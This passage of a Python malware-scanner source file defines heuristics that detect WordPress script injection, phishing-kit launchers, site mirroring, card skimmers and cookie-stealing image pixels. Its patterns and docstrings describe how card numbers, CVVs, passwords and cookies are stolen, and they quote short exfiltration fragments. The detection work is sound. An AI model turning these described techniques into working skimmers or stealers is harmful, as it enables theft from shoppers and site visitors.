    rb"(?:display\s*:\s*none|(?:left|top|text-indent)\s*:\s*-\d{3,}\s*px|font-size\s*:\s*0|"
    rb"visibility\s*:\s*hidden|height\s*:\s*0)[^\x00]{0,300}?<a\s[^>]{0,100}?href\s*=\s*['\"]?"
    rb"https?://"
)


def _hidden_or_remote(ctx: Ctx, body: bytes, text: bytes, depth: int = 2) -> bool:
    """A piece of ``text`` (what a hook prints) is decoded data, content fetched from a
    literal web address, a literal block hidden from the visitor that links to other sites
    (SEO spam links), or a variable the hook's body gave such a value (two levels: $r =
    wp_remote_get(...); $b = wp_remote_retrieve_body($r); echo $b;). A value merely derived
    from decoded data (a field of decoded settings) is not the decoded text."""
    for piece in itertools.islice(split_top(text, b".,"), 12):
        lit = PLACEHOLDER.fullmatch(piece.strip())
        if lit is not None and _HIDDEN_LINKS.search(ctx.lx.value(int(lit.group(1))).lower()):
            return True
        head = _KEEPS.match(piece)
        rest = piece[head.end() if head else 0 :]
        if head is not None and _PAGE_DECODE.search(head.group(0)) is not None:
            return True
        f = _PAGE_FETCH.match(rest)
        if f is not None and web_address(ctx, f):
            return True
        v = VAR.match(rest)
        if v is not None and depth and rest[v.end() :].strip(b" )") == b"":
            for _, m in var_assigns(body, v.group(1), _GIVEN, 10):
                if _hidden_or_remote(ctx, body, m.group(1), depth - 1):
                    return True
    return False


_HOOK_CALLBACK = tight(rb"\s*,\s*(?:\x01(\d+)\x01|(?:static\s+)?function\s*\([^)]{0,200}\)"
                            rb"\s*(?:use\s*\([^)]{0,200}\)\s*)?\{)")  # fmt: skip


def _hook_body(ctx: Ctx, args: bytes, at: int) -> bytes | None:
    """The code a hook runs: the body of the named function, or of the closure given
    (``args``: the call's argument text, which starts at offset ``at`` of the code)."""
    m = _HOOK_CALLBACK.match(args, len(first_arg(args)))
    if m is None:
        return None
    if m.group(1) is not None:
        return function_body(ctx, ctx.lx.value(int(m.group(1))).strip().lower())
    return braced(ctx.code, at + m.end() - 1)


@feature("wp_hook_inject")
def _wp_hook_inject(ctx: Ctx, rule: Rule) -> Hit | None:
    """A WordPress hook of every page's head or footer (wp_head, wp_footer, login_footer...)
    whose function prints what it decodes (base64, rot13, gzip, hex) or what it fetched
    from a literal web address (directly, or through variables of its body): a script or
    links injected into every page from hidden code or from the operator's server. A theme
    or plugin prints its own markup there, and loads a remote script with a <script src>
    tag, not by fetching and echoing it."""
    value = ctx.lx.value
    obfuscated: bool | None = None
    for start, args in calls_to(ctx, (b"add_action", b"add_filter"), 50):
        hook = PLACEHOLDER.match(first_arg(args).strip())
        if hook is None or value(int(hook.group(1))).strip().lower() not in _PAGE_HOOKS:
            continue
        if obfuscated is None:
            obfuscated = _obfuscated_script(string_text(ctx))
        if obfuscated:  # machine-obfuscated JavaScript printed on every page
            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 80))
        body = _hook_body(ctx, args, find(ctx.code, b"(", start) + 1)
        if body is None:
            continue
        for out in itertools.islice(_OUTPUT.finditer(body), 20):
            if _hidden_or_remote(ctx, body, out.group(1)):
                return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 80))
    return None


# what JavaScript obfuscators leave: javascript-obfuscator's _0x names, Dean Edwards' packer
_OBFUSCATOR_NAME = tight(rb"\b_0x[0-9a-f]{4,6}\b")
_JS_PACKER = tight(rb"eval\s*\(\s*function\s*\(\s*p\s*,\s*a\s*,\s*c\s*,\s*k\s*,\s*e\s*,")


def _obfuscated_script(text: bytes) -> bool:
    """The literals or inline HTML hold machine-obfuscated JavaScript: a <script> with
    dozens of javascript-obfuscator names (_0x3629) or Dean Edwards' packer."""
    if find(text, b"<script") < 0:
        return False
    if _JS_PACKER.search(text) is not None:
        return True
    return sum(1 for _ in itertools.islice(prefiltered_finditer(_OBFUSCATOR_NAME, text), 20)) >= 20


# ------------------------------------------------------- kit copied to a random folder
# a source of a random name: md5(rand()), uniqid(), substr(sha1(microtime()), 0, 8)...
_KIT_RANDOM = tight(
    rb"(?<![\w$>:])(?:rand|mt_rand|uniqid|microtime|random_bytes|random_int|str_shuffle|"
    rb"openssl_random_pseudo_bytes)\s*\("
)
# a name made unique per visit by hashing the time (md5(time()), sha1($now->format('u'))):
# a readable date alone (backup-2026-12-07) is a dated copy, not a per-visitor one
_KIT_TIME = tight(
    rb"(?<![\w$>:])(?:time|date|gmdate|hrtime|date_create)\s*\(|new\s+\\?datetime"
)
_KIT_HASHED = tight(
    rb"(?<![\w$>:])(?:md5|sha1|crc32|hash|base64_encode|bin2hex|dechex|base_convert)\s*\("
)
_KIT_ASSIGN = tight(rb"\$(\w+)\s*=(?![=>])\s*([^;]{1,300});")
# a page that only an administrator reaches (a site builder's "new sandbox" button)
_KIT_ADMIN_ONLY = tight(
    rb"current_user_can|is_user_logged_in|is_super_admin|php_auth_user|password_verify"
)
_KIT_SENT_TO = tight(rb"(?<![\w$>:])(?:header\s*\(|echo\b|print\b)[^;]{0,300}")


def _random_named(ctx: Ctx) -> tuple[set[bytes], dict[bytes, list[bytes]]]:
    """The variables whose value comes from a random source, directly or through others
    (``$r = rand(); $dir = substr(md5($r), 0, 15); $url = 'https://' . $host . '/' . $dir``),
    or from the time hashed (``$now = new DateTime(); $dir = md5($now->format('u'))``), and
    each variable's assigned expressions."""
    rhs: dict[bytes, list[bytes]] = collections.defaultdict(list)
    for m in itertools.islice(_KIT_ASSIGN.finditer(ctx.code), 3000):
        rhs[m.group(1)].append(m.group(2))
    timed = {n for n, xs in rhs.items() if any(_KIT_TIME.search(x) for x in xs)}
    rnd = {
        n for n, xs in rhs.items()
        if any(
            _KIT_RANDOM.search(x) is not None
            or (_KIT_HASHED.search(x) is not None and (
                _KIT_TIME.search(x) is not None
                or any(v.group(1) in timed for v in VAR.finditer(x))
            ))
            for x in xs
        )
    }
    for _ in range(4):
        more = {
            n for n, xs in rhs.items() if n not in rnd
            and any(v.group(1) in rnd for x in xs for v in VAR.finditer(x))
        }
        if not more:
            break
        rnd |= more
    return rnd, rhs


def _copies_into(ctx: Ctx, rnd: set[bytes]) -> tuple[int, bytes] | None:
    """A call that copies files into a folder a random variable names: copy() or a
    function of the file's own that calls copy() (a recursive folder copy), given the
    variable (or the variable and a path after it) as an argument."""
    bodies = function_bodies(ctx)
    copiers = {b"copy"} | {
        n for n, b in bodies.items() if re.search(rb"(?<![\w$>:])copy\s*\(", b) is not None
    }
    for name in copiers:
        for start, args in calls_to(ctx, (name,), 50):
            if name != b"copy" and ctx.code.startswith(b"function", max(0, start - 9)):
                continue
            parts = top_args(args)
            if len(parts) < 2 or not _kit_source(ctx, parts[0]):
                continue
            for arg in parts[1:]:
                v = re.match(rb"\s*\$(\w+)\s*(?:\.|$)", arg)
                if v is not None and v.group(1) in rnd:
                    return start, v.group(1)
    return None


def _kit_source(ctx: Ctx, arg: bytes) -> bool:
    """What is copied is a folder or page of the script's own: a literal path (after
    __DIR__), or a variable the script sets to one; not an upload or another request value."""
    arg = arg.strip()
    lit = re.fullmatch(rb"(?:(?:__dir__|dirname\s*\(\s*__file__\s*\))\s*\.\s*)?\x01\d+\x01", arg)
    if lit is not None:
        return True
    v = VAR.fullmatch(arg)
    if v is None:
        return False
    given = var_assigns(ctx.code, v.group(1), TAIL_RHS, 5)
    return len(given) == 1 and _kit_source_literal(given[0][1].group(1))


def _kit_source_literal(rhs: bytes) -> bool:
    return re.fullmatch(
        rb"\s*(?:(?:__dir__|dirname\s*\(\s*__file__\s*\))\s*\.\s*)?\x01\d+\x01\s*", rhs
    ) is not None


@feature("kit_random_copy")
def _kit_random_copy(ctx: Ctx, rule: Rule) -> Hit | None:
    """A phishing kit's launcher: the kit's folder copied into a new folder with a random
    name (md5 of rand(), uniqid()...) and the visitor sent there (a Location header, a
    script or a refresh that names the folder): every victim gets an address of their own,
    so a reported link is dead before anyone looks at it. A page only an administrator
    reaches (a site builder making a sandbox) is left alone."""
    code = ctx.code
    if prefiltered_search(_KIT_ADMIN_ONLY, code) is not None:
        return None
    rnd, rhs = _random_named(ctx)
    if not rnd:
        return None
    copied = _copies_into(ctx, rnd)
    if copied is None:
        return None
    start, folder = copied
    for m in itertools.islice(prefiltered_finditer(_KIT_SENT_TO, code), 200):
        text = interpolated(ctx, m.group(0))
        said = b" ".join(
            ctx.lx.value(int(q.group(1))).lower() for q in PLACEHOLDER.finditer(m.group(0))
        ) + text
        if said.find(b"location") < 0 and said.find(b"refresh") < 0:
            continue
        named = {v.group(1) for v in VAR.finditer(text)}
        named |= {w.group(1) for n in list(named) for x in rhs.get(n, [])
                  for w in VAR.finditer(interpolated(ctx, x))}
        if folder in named:
            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 80))
    return None


# ------------------------------------------------------------ another site mirrored
# the visitor's own path or query, which a mirror appends to the mirrored site's address
_MIRROR_PATH = tight(
    rb"\$_server\s*\[\s*\x01(\d+)\x01\s*\]|getenv\s*\(\s*\x01(\d+)\x01\s*\)"
)
_PATH_KEYS = (b"query_string", b"request_uri", b"path_info", b"redirect_url")
# this site's own address, which a mirror writes into the mirrored page's links
_OWN_KEYS = (b"http_host", b"php_self", b"script_name", b"server_name", b"request_uri")
_MIRROR_FETCH = tight(
    rb"\$(\w+)\s*=\s*@?\s*(?:file_get_contents|implode\s*\(\s*\x01\d+\x01\s*,\s*@?\s*file)"
    rb"\s*\(([^;]{1,300});"
)
_MIRROR_SWAP = tight(
    rb"(?<![\w$>:])(?:preg_replace|str_replace|str_ireplace)\s*\(([^;]{1,600});"
)


def _server_keys(ctx: Ctx, text: bytes) -> set[bytes]:
    value = ctx.lx.value
    return {
        value(int(m.group(1) or m.group(2))).lower().strip()
        for m in itertools.islice(_MIRROR_PATH.finditer(text), 20)
    }


def _expanded(ctx: Ctx, text: bytes, depth: int = 2) -> bytes:
    """``text`` and the expressions its variables are given (``depth`` hops)."""
    out = [text]
    for _ in range(depth):
        more = []
        for v in itertools.islice(VAR.finditer(out[-1]), 12):
            more += [m.group(1) for _, m in var_assigns(ctx.code, v.group(1), TAIL_RHS, 3)]
        if not more:
            break
        out.append(b" ".join(more))
    return b" ".join(out)


@feature("site_mirror")
def _site_mirror(ctx: Ctx, rule: Rule) -> Hit | None:
    """Another site mirrored under this one's name: the page at one literal web address with
    the visitor's own path or query string appended fetched, its links rewritten to this
    script's address (the host, PHP_SELF), and printed. Every page of the other site
    (a shop of counterfeit goods, a casino) appears under the hacked domain: a doorway or a
    scraper. A proxy to an API passes the answer on as it is."""
    code = ctx.code
    value = ctx.lx.value
    for m in itertools.islice(prefiltered_finditer(_MIRROR_FETCH, code, ctx.first), 40):
        target = _expanded(ctx, first_arg(m.group(2)))
        if not _PATH_KEYS_SET.intersection(_server_keys(ctx, target)):
            continue
        if not any(
            value(int(q.group(1))).lower().lstrip().startswith(WEB_SCHEMES[:2])
            for q in itertools.islice(PLACEHOLDER.finditer(target), 20)
        ):
            continue
        page = m.group(1)
        for s in itertools.islice(_MIRROR_SWAP.finditer(code, m.end()), 20):
            parts = top_args(s.group(1))
            if len(parts) < 3 or VAR.fullmatch(parts[2].strip() or b"-") is None:
                continue
            if parts[2].strip()[1:] != page:
                continue
            if not _OWN_KEYS_SET.intersection(_server_keys(ctx, _expanded(ctx, parts[1]))):
                continue
            shown = re.search(
                rb"(?:echo|print)\b([^;]{0,200})", code[s.end() : s.end() + 2000]
            )
            if shown is not None and _injected(ctx, shown.group(1), page):
                return Hit(ctx.line_of_code(m.start()), ctx.excerpt_code(m.start(), m.start() + 80))
    return None


def _injected(ctx: Ctx, printed: bytes, page: bytes) -> bool:
    """What is printed with the mirrored page ``page`` (the text after an ``echo``): the
    page and a script glued to it, fetched from another literal address or written out as
    a ``<script`` literal (a redirect for the people a search sends; the crawler indexes the
    page). A site's own section served from elsewhere (a blog under /blog) prints it alone."""
    names = {v.group(1) for v in VAR.finditer(printed)}
    if page not in names:
        return False
    value = ctx.lx.value
    for q in itertools.islice(PLACEHOLDER.finditer(printed), 10):
        if value(int(q.group(1))).lower().find(b"<script") >= 0:
            return True
    for name in names - {page}:
        for _, a in var_assigns(ctx.code, name, TAIL_RHS, 3):
            fetch = REMOTE_FETCH.search(a.group(1))
            if fetch is not None and value(int(fetch.group(1))).lower().lstrip().startswith(
                WEB_SCHEMES[:2]
            ):
                return True
    return False


_PATH_KEYS_SET = frozenset(_PATH_KEYS)
_OWN_KEYS_SET = frozenset(_OWN_KEYS)


# a payment card's number and its security code, as checkout forms name the fields
_CARD_NUMBER_FIELD = tight(
    rb"(?:^|\x00|[^a-z])(?:cc_?num(?:ber)?|ccnum|card_?num(?:ber)?|cardnumber|cc-number|"
    rb"card-number|cc_?no)(?:$|\x00|[^a-z])"
)
_CARD_CODE_FIELD = tight(
    rb"(?:^|\x00|[^a-z])(?:cvv2?|cvc2?|cc_?cid|card_?code|security_?code|csc|cc_?cvv)"
    rb"(?:$|\x00|[^a-z])"
)
# one of these is in every match of _CARD_NUMBER_FIELD, whose pattern has no literal start
# (the regex engine tried it at every offset of the literals' text: 2 % of a scan's CPU)
_CARD_NUMBER_WORDS = (b"ccnum", b"cc_num", b"cardnum", b"card_num", b"cc-num", b"card-num",
                      b"ccno", b"cc_no")  # fmt: skip


def card_fields_named(text: bytes) -> bool:
    """Whether ``text`` names a card's number field and its security code field (both
    :data:`_CARD_NUMBER_FIELD` and :data:`_CARD_CODE_FIELD` match), the literal words each
    match holds looked for first."""
    if not any(find(text, w) >= 0 for w in _CARD_NUMBER_WORDS):
        return False
    if _CARD_NUMBER_FIELD.search(text) is None:
        return False
    return search_needing(_CARD_CODE_FIELD, text) is not None


# a payment module of its own: a gateway class sends the card to its processor
_GATEWAY_CLASS = tight(
    rb"\bextends\s+\\?[\w\\]*(?:payment|gateway)\w*|function\s+process_payment\s*\("
)
_CARD_SENDS = (b"wp_remote_post", b"wp_remote_get", b"wp_remote_request", b"curl_setopt",
               b"file_get_contents", b"fsockopen", b"mail", b"file_put_contents", b"fwrite",
               b"fputs")  # fmt: skip
_VISITOR_INPUT = tight(rb"\$_(?:post|request|get)\b|php://input")


@feature("card_skimmer")
def _card_skimmer(ctx: Ctx, rule: Rule) -> Hit | None:
    """A card's number and its security code, read from the checkout's request, sent away
    (posted to a web address, mailed) or written to a file, by code that is no payment
    module (no gateway class, no process_payment()): a skimmer planted in a shop (a
    WooCommerce checkout hook, a patched Magento file). A gateway sends the card to its
    processor from its own class; no shop keeps the security code."""
    if not card_fields_named(string_text(ctx)):
        return None
    code = ctx.code
    if _GATEWAY_CLASS.search(code) is not None:
        return None
    req = taint(ctx)[0]
    for start, args in calls_to(ctx, _CARD_SENDS, 40):
        shown = args[:600]
        if _VISITOR_INPUT.search(shown) is not None or any(
            re.search(rb"\$" + re.escape(v) + rb"\b", shown) for v in VAR.findall(shown)[:8]
            if v in req
        ):
            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 100))
    return None


# a card's number and its security code read from the payment object a shop's order holds
# (Magento's $payment->getCcNumber() and ->getCcCid(), ->getData('cc_number'))
_CARD_NUMBER_GETTER = tight(rb"->\s*get_?(?:cc|card)_?num(?:ber)?\s*\(\s*\)")
_CARD_CODE_GETTER = tight(
    rb"->\s*get_?(?:cc|card)_?(?:cid|cvv2?|cvc2?|cvn|security_?code|verification\w*)\s*\(\s*\)"
)
_CARD_DATA_GETTER = tight(rb"->\s*get_?data\s*\(\s*\x01(\d+)\x01\s*\)")
# a number cut down before use: its last digits for a receipt, or stars for a log
_CARD_MASKED = tight(
    rb"(?:substr|mb_substr|substr_replace|str_pad|str_repeat|preg_replace)\s*\(\s*$"
)
# the object a getter is called on, at the end of the code before it: $info, $o->getPayment()
_OBJECT_TAIL = tight(rb"\$\w+(?:\s*->\s*\w+\s*\([^()]{0,80}\))*\s*$")
_CARD_HELD = tight(rb"\$(\w+)(?:\s*\[[^\];]{0,80}\])?\s*\.?=(?![=>])([^;]{1,600});")
# where an object's card goes: mail, a file, a web address
_GETTER_CARD_SENDS = (b"mail", b"file_put_contents", b"fwrite", b"fputs", b"error_log",
                      b"file_get_contents", b"fopen", b"file", b"wp_remote_post",
                      b"wp_remote_get", b"curl_setopt")  # fmt: skip
_FILE_SINKS = (b"mail", b"file_put_contents", b"fwrite", b"fputs", b"error_log")


def _card_getters(ctx: Ctx, rx: re.Pattern[bytes], field: re.Pattern[bytes]) -> list[int]:
    """Where the code reads a card's number (or code) from a payment object, not cut down
    to its last digits: ``->getCcNumber()``, ``->getData('cc_number')``."""
    code = ctx.code
    out = [m.start() for m in itertools.islice(rx.finditer(code), 40)]
    for m in itertools.islice(_CARD_DATA_GETTER.finditer(code), 40):
        if field.search(ctx.lx.value(int(m.group(1))).strip().lower()) is not None:
            out.append(m.start())
    return [
        at
        for at in out
        if _CARD_MASKED.search(_OBJECT_TAIL.sub(b"", code[max(0, at - 160) : at])) is None
    ]


def _card_vars(ctx: Ctx, getters: list[int]) -> set[bytes]:
    """The variables that hold an object's card number: set to an expression that reads it,
    or to one holding such a variable (``$d = $info->getCcNumber() . '|' . ...``, ``$q =
    base64_encode($d)``), up to three steps."""
    code = ctx.code
    held: set[bytes] = set()
    assigns = list(itertools.islice(_CARD_HELD.finditer(code), 400))
    for _ in range(3):
        grew = False
        for m in assigns:
            var = m.group(1)
            if var in held:
                continue
            rhs_at = m.start(2)
            if any(rhs_at <= at < m.end(2) for at in getters) or any(
                re.search(rb"\$" + re.escape(v) + rb"\b", m.group(2)) for v in held
            ):
                held.add(var)
                grew = True
        if not grew:
            break
    return held


@feature("card_getter_sent")
def _card_getter_sent(ctx: Ctx, rule: Rule) -> Hit | None:
    """A card's number and its security code read from the order's payment object
    (``$payment->getCcNumber()``, ``->getCcCid()``) and sent away: mailed, written to a
    file, or sent to a literal web address whose answer nobody reads (``@file_get_contents(
    'http://.../i.php?d=' . base64_encode($data))``, a ``curl_exec($ch);`` of its own): the
    skimmer patched into a shop's payment class, which reads no request at all. A gateway
    sends the card to its processor and goes by the answer; a receipt shows the last
    digits."""
    numbers = _card_getters(ctx, _CARD_NUMBER_GETTER, _CARD_NUMBER_FIELD)
    if not numbers or not _card_getters(ctx, _CARD_CODE_GETTER, _CARD_CODE_FIELD):
        return None
    code = ctx.code
    held = _card_vars(ctx, numbers)

    def carries(lo: int, hi: int) -> bool:
        return any(lo <= at < hi for at in numbers) or any(
            re.search(rb"\$" + re.escape(v) + rb"\b", code[lo:hi]) for v in held
        )

    # a gateway's exchange with its processor (a curl_exec() whose answer is read): its
    # debug log of the request is a careless log, not a drop
    exchange = any(_answer_used(code, at) for at, _a in calls_to(ctx, (b"curl_exec",), 10))
    for start, args in calls_to(ctx, _GETTER_CARD_SENDS, 60):
        lo = find(code, b"(", start) + 1
        hi = lo + len(args)
        name = code[start:lo].rstrip(b"( \t").lower()
        if name in _FILE_SINKS:
            if exchange and name != b"mail":
                continue
            if name in (b"fwrite", b"fputs"):
                parts = top_args(args)
                if len(parts) < 2 or _answer_checked(ctx, parts[0].strip()):
                    continue  # what a connection answers is read: a gateway's exchange
            if carries(lo, hi):
                return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 100))
            continue
        if name == b"curl_setopt":
            parts = top_args(args)
            if len(parts) < 3 or not carries(lo, hi):
                continue
            execs = calls_to(ctx, (b"curl_exec",), 10)
            if any(not _answer_used(code, at) for at, _a in execs):
                return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 100))
            continue
        if (
            carries(lo, hi)
            and any(web_address(ctx, q) for q in itertools.islice(PLACEHOLDER.finditer(args), 8))
            and not _answer_used(code, start)
        ):
            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 100))
    return None


def _answer_used(code: bytes, at: int) -> bool:
    """Whether what the call at ``at`` returns is kept in a variable that the code reads
    again (``$r = curl_exec($ch); $f = explode('|', $r);``): a gateway goes by the answer."""
    lo = max(0, at - 300)
    head = max(code.rfind(b, lo, at) for b in (b";", b"{", b"}"))
    m = _ANSWER_KEPT.match(code, head + 1)
    if m is None:
        return False
    return re.search(rb"\$" + re.escape(m.group(1)) + rb"\b", code[at : at + 4000]) is not None


# a form field put into the session as it came: $_SESSION['cvv'] = $_POST['cvv'];
_SESSION_FROM_REQUEST = tight(
    rb"\$_session\s*\[\s*\x01\d+\x01\s*\]\s*=(?![=>])\s*\$_(?:post|request|get)\s*\[\s*\x01(\d+)\x01\s*\]"
    rb"\s*;"
)
# an account's password, or the card's 3-D Secure (Verified by Visa, SecureCode) password
_PASSWORD_FIELD = tight(
    rb"^(?:(?:\w*_)?(?:password|passwd|pass|pwd)(?:_?\d|_?(?:confirm|again|old|new))?|vbv\w*"
    rb"|\w*3d_?sec\w*|dsecure|secure_?code)$"
)


@feature("card_password_held")
def _card_password_held(ctx: Ctx, rule: Rule) -> Hit | None:
    """A phishing kit's step that keeps what the victim typed for the page that sends it: the
    card's security code (cvv, cvc) and a password (the account's, or the card's 3-D Secure
    one) put into the session as they came from the request, by code that is no payment
    module. A shop never keeps the security code, nor the sign-in password, in the session
    (a checkout keeps the card's last digits, a sign-in the user's id)."""
    if not has_word(ctx, b"$_session"):
        return None
    code = ctx.code
    if _GATEWAY_CLASS.search(code) is not None:
        return None
    value = ctx.lx.value
    card = password = -1
    for m in itertools.islice(_SESSION_FROM_REQUEST.finditer(code), 200):
        field = value(int(m.group(1))).strip().lower()
        if card < 0 and search_needing(_CARD_CODE_FIELD, field) is not None:
            card = m.start()
        elif password < 0 and _PASSWORD_FIELD.match(field) is not None:
            password = m.start()
        if card >= 0 and password >= 0:
            return Hit(ctx.line_of_code(card), ctx.excerpt_code(card, card + 80))
    return None


# the whole of the visitor's request headers or cookies, not one field of them
_REQUEST_DUMP = tight(
    rb"(?<![\w$>:])(?:apache_request_headers|getallheaders)\s*\(\s*\)|\$_cookie\b(?!\s*\[)"
    rb"|\$_server\s*\[\s*\x01(\d+)\x01\s*\]"
    # the whole $_SERVER array, its HTTP_* entries being every header the browser sent
    # (foreach ($_SERVER as $k => $v) if (strpos($k, 'HTTP_') === 0) ...)
    rb"|\$_server\b(?!\s*\[)"
)
# the Cookie header: every cookie. Not the raw query string: a newsletter's open pixel logs
# it whole (?c=spring24&u=8812) as readily as a cookie stealer does
_DUMP_SERVER_KEYS = frozenset({b"http_cookie"})
# an image's start, base64: a GIF (R0lGOD) or a PNG (iVBORw0KGgo)
_IMAGE_B64 = tight(rb"^\s*(?:r0lgod|ivborw0kggo)")
# an image's start as it is: GIF87a/GIF89a, PNG's \x89PNG (a literal's value)
_IMAGE_RAW = tight(rb"^(?:gif8[79]a|\x89png)")
# a picture file the script sends back: readfile('blank.gif'), fpassthru(fopen('1x1.png', ...))
_IMAGE_FILE = tight(rb"\.(?:gif|png|jpe?g|webp|ico)$")
# one named header of a dump held in a variable, not the cookie one: $h['Referer']
_ONE_HEADER = tight(rb"\$(" + NAME_P + rb")\s*\[\s*\x01(\d+)\x01\s*\]")
_SET_TO = tight(rb"\$(" + NAME_P + rb")\s*=(?![=>])([^;]{1,300});")
_GLUED_TO = tight(rb"\$(" + NAME_P + rb")\s*\.=\s*([^;]{1,300});")
_EACH_OF = tight(rb"foreach\s*\(([^;{]{1,200}?)\s+as\s+([^){;]{1,80})\)")


def _whole_request_at(ctx: Ctx, text: bytes) -> int:
    # each match begins with one of four words: tried only where one occurs (the leading
    # look-behind made the regex engine try every offset of the code)
    first = ctx.first if text is ctx.code else None
    for m in itertools.islice(prefiltered_finditer(_REQUEST_DUMP, text, first), 20):
        key = m.group(1)
        if key is None or ctx.lx.value(int(key)).strip().lower() in _DUMP_SERVER_KEYS:
            return m.start()
    return -1


def _answers_image(ctx: Ctx) -> bool:
    """The script answers with a picture: a Content-Type: image/... header, or a GIF or PNG
    written in base64 (the 1x1 pixel a tracking image sends back)."""
    for _start, args in calls_to(ctx, (b"header",), 20):
        m = PLACEHOLDER.search(first_arg(args))
        if m is not None and re.search(
            rb"content-type\s*:\s*image/", ctx.lx.value(int(m.group(1))).lower()
        ):
            return True
    raws = itertools.islice(ctx.lx.raw_strings, 2000)
    if any(_IMAGE_B64.match(raw.lower()) is not None for raw in raws):
        return True
    # the bytes of a GIF or PNG written out ("GIF89a\x01\x00..."), or a picture file read out
    value = ctx.lx.value
    for idx in range(min(len(ctx.lx.raw_strings), 2000)):
        if _IMAGE_RAW.match(value(idx)[:8].lower()) is not None:
            return True
    for _start, args in calls_to(ctx, (b"readfile", b"fpassthru", b"file_get_contents"), 20):
        for p in itertools.islice(PLACEHOLDER.finditer(args), 5):
            if _IMAGE_FILE.search(value(int(p.group(1))).strip().lower()) is not None:
                return True
    return False


def _one_header_removed(ctx: Ctx, args: bytes, held: set[bytes]) -> bytes:
    """``args`` without the single headers it reads of a dump a variable holds
    (``$h['Referer']``, ``$h['User-Agent']``): a hit counter keeps those, not the request.
    The Cookie header stays."""

    def cut(m: re.Match[bytes]) -> bytes:
        if m.group(1) in held and ctx.lx.value(int(m.group(2))).strip().lower() != b"cookie":
            return b"0"
        return m.group()

    return _ONE_HEADER.sub(cut, args)


@feature("headers_pixel")
def _headers_pixel(ctx: Ctx, rule: Rule) -> Hit | None:
    """A picture that keeps its visitor's whole request: every header or every cookie
    (``apache_request_headers()``, ``getallheaders()``, ``$_COOKIE``, the Cookie header or the
    raw query string), as it came, written to a file by a script that answers with an image
    (a 1x1 GIF, a ``Content-Type: image/...`` header). The receiving end of an injected
    ``<img src="//here/image.php?c=' + document.cookie">``: other sites' visitors' sessions.
    A newsletter's open-tracking pixel records which letter was opened (an id), not the
    reader's cookies; a request logger answers with text, not a picture."""
    code = ctx.code
    writes = calls_to(ctx, (b"fwrite", b"fputs", b"file_put_contents"), 30)
    # error_log($text, 3, $file) appends to a file as well
    writes += [
        (start, args)
        for start, args in calls_to(ctx, (b"error_log",), 10)
        if len(top_args(args)) >= 3 and top_args(args)[1].strip() == b"3"
    ]
    if not writes or _whole_request_at(ctx, code) < 0 or not _answers_image(ctx):
        return None
    # variables that hold the whole request (``$h = apache_request_headers();``)
    held: set[bytes] = set()
    for m in itertools.islice(_SET_TO.finditer(code), 400):
        if _whole_request_at(ctx, m.group(2)) >= 0:
            held.add(m.group(1))
    # ``foreach (getallheaders() as $k => $v)``: each header, its name and its value
    for m in itertools.islice(_EACH_OF.finditer(code), 100):
        if _whole_request_at(ctx, m.group(1)) >= 0 or set(VAR.findall(m.group(1))) & held:
            held.update(VAR.findall(m.group(2)))
    # a text glued from those in the loop ($log .= $k . '=' . $v . "\n"), one step
    if held:
        for m in itertools.islice(_GLUED_TO.finditer(code), 400):
            if set(VAR.findall(interpolated(ctx, m.group(2)))) & held:
                held.add(m.group(1))
    for start, args in writes:
        seen = set(VAR.findall(interpolated(ctx, _one_header_removed(ctx, args, held))))
        if _whole_request_at(ctx, args) >= 0 or seen & held:
            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 120))
    return None


# ----------------------------------------------------- the whole request kept hidden
# the last part of a file name a directory listing does not show: a dot and a letter or digit
# begin it, and it holds data (.txt, .log, ... or no extension), not the web server's or a
# tool's own settings (.htaccess, .user.ini, .env, .git...)
_HIDDEN_DATA_NAME = tight(
    rb"^\.(?!ht|user\.ini$|env(?:\.|$)|git|svn|well-known)[a-z0-9][\w-]{0,40}"
    rb"(?:\.(?:txt|log|dat|csv|json|html?|db|list))?$"
)
# a hidden folder a script makes for its own data, not the server's, a tool's or a cache's
_HIDDEN_FOLDER = tight(
    rb"^\.(?!ht|well-known|git|svn|hg|idea|vscode|cache|tmp|npm|composer|config|local|ssh)"
    rb"[a-z0-9][\w-]{0,40}$"
)
# an extension alone, glued to a name the script builds: ".txt" names no hidden file
_EXTENSION_ONLY = tight(
    rb"^\.(?:txt|log|dat|csv|json|html?|db|list|php\d?|phtml|inc|xml|gz|zip|tmp|bak|js|css)$"
)
# the whole of what the visitor posted or asked (every field), not one field of it
_FORM_DUMP = tight(rb"\$_(?:post|get|request)\b(?!\s*\[)")
_PATH_END = tight(rb"(?:\x01(\d+)\x01|\$(" + NAME_P + rb"))\s*\)*\s*$")


def _path_tail(ctx: Ctx, expr: bytes, depth: int = 3) -> bytes | None:
    """The literal a file path expression ends with (``$root . '/' . $name``), followed through
    variables assigned once (``$name = '.arrow.txt';``), lower case; None when it ends with
    anything else or a variable set more than once."""
    expr = expr.strip()
    m = _PATH_END.search(expr)
    if m is None:
        return None
    if m.group(1) is not None:
        lit = ctx.lx.value(int(m.group(1))).lower()
        if find(lit, b"/") >= 0:
            return lit
        # no "/" in it: the whole last part of the path only when nothing comes before it
        # or a literal ending with "/" does ($dir . '/' . '.log'); else an extension
        # glued to a name the script builds ('hits-' . date('Ymd') . '.tsv')
        before = expr[: m.start()].rstrip()
        if not before:
            return lit
        prev = re.search(rb"\x01(\d+)\x01\s*\.$", before)
        if prev is not None and ctx.lx.value(int(prev.group(1))).endswith(b"/"):
            return b"/" + lit
        return None
    if depth <= 0:
        return None
    given = var_assigns(ctx.code, m.group(2), TAIL_RHS, 3)
    if len(given) != 1:
        return None
    return _path_tail(ctx, given[0][1].group(1), depth - 1)


def _hidden_append(ctx: Ctx, start: int, args: bytes) -> bool:
    """The write at ``start`` appends to a file whose name is hidden (:data:`_HIDDEN_DATA_NAME`):
    ``file_put_contents('.log.txt', $t, FILE_APPEND)``, or ``fwrite($fh, ...)`` with ``$fh``
    last opened before it by ``fopen($path, 'a')`` on such a name."""
    parts = top_args(args)
    path: bytes | None
    if ctx.code.startswith(b"error_log", start):
        # error_log($text, 3, $file): the text appended to the file
        if len(parts) < 3 or parts[1].strip() != b"3":
            return False
        path = parts[2]
    else:
        path = appended_path(ctx, start, parts)
    if path is None:
        return False
    tail = _path_tail(ctx, path)
    if tail is None:
        return False
    parts = tail.strip().split(b"/")
    name = parts[-1]
